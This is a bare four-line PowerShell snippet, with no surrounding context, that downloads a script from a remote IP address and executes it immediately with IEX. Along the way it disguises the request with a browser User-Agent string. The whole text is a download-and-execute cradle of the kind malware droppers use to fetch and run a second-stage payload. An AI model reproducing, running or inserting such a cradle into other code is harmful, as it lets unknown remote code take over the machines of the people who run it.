$wc = New-Object System.Net.WebClient
$wc.Headers.Add('User-Agent', 'Mozilla/5.0 (Windows NT 10.0; Win64; x64)')
$payload = $wc.DownloadString('http://198.51.100.23/a.ps1')
IEX $payload
